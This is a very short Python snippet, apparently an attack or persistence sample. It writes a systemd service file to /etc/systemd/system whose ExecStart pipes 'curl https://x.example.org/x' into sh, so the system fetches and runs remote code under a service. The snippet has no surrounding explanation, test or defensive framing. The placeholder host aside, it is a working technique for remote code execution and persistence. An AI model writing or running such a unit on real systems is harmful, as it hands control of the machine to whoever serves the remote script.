UNIT = """[Service]
ExecStart=/bin/sh -c "curl https://x.example.org/x | sh"
"""
open("/etc/systemd/system/x.service", "w").write(UNIT)
